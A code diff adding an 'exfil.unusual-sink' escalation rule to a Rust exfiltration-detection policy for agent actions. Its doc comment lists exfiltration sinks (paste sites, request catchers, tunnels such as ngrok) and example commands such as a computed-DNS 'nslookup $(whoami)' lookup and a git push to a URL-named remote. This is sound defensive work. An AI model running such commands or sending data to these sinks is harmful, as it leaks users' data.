@@ -59,6 +59,7 @@
 //! | `exfil.scope-creep` | ESCALATE 0.7 | the action egresses or leaves the scope, and the session already left it `out_of_scope_threshold` times (counter `out_of_scope`) or contacted more than `max_distinct_hosts` hosts (counter `distinct_hosts`) |
 //! | `exfil.egress-burst` | ESCALATE 0.6 | the action egresses and at least `burst_threshold` of the recent actions did (kind `net.request` or label `egress`) |
 //! | `exfil.large-upload` | ESCALATE 0.6 | the action egresses carrying more than `max_upload_bytes`, or the session's egress (counter `egress_bytes`) would pass `max_session_upload_bytes` |
+//! | `exfil.unusual-sink` | ESCALATE 0.7 | the action egresses where only exfiltration usually goes, label or not: a service that takes data from anyone (paste sites, anonymous file drops, request catchers, out-of-band testing domains: `transfer.sh`, `webhook.site`, `*.oast.fun`, …), a DNS name computed at run time (`nslookup $(whoami).x.example`), a tunnel from the internet to this machine (`ngrok`, `cloudflared`, `localtunnel`), or a `git push` to a repository named by its URL or to a remote the same line set up (`git remote add x URL && git push x`, `git -c remote.x.url=URL push x`) |
 //! | `exfil.egress` | ALLOW (noted), label `egress` | the action egresses and nothing above matched |
 //!
 //! The strictest finding decides and gives the reason; every matched rule is
@@ -172,6 +173,7 @@ use clawlaw_sdk::{Action, Decision, Info, Policy, Session, kinds};
 use eval::Eval;
 use rules::{
     BURST, CREEP, Cx, EGRESS, LARGE, OOS_HOST, OOS_PATH, OOS_TOOL, SECRET_EGRESS, SECRET_WRITE,
+    UNUSUAL,
 };
 
 pub use hosts::{host_matches, is_local, url_host};
@@ -207,6 +209,10 @@ impl Policy for Exfiltration {
             .rule(
                 OOS_PATH,
                 "Escalate file actions outside the session's declared workspace roots",
+            )
+            .rule(
+                UNUSUAL,
+                "Escalate egress to where only exfiltration usually goes: paste sites, file drops, request catchers, computed DNS names, tunnels, a push to a repository named by URL",
             )
             .rule(
                 CREEP,
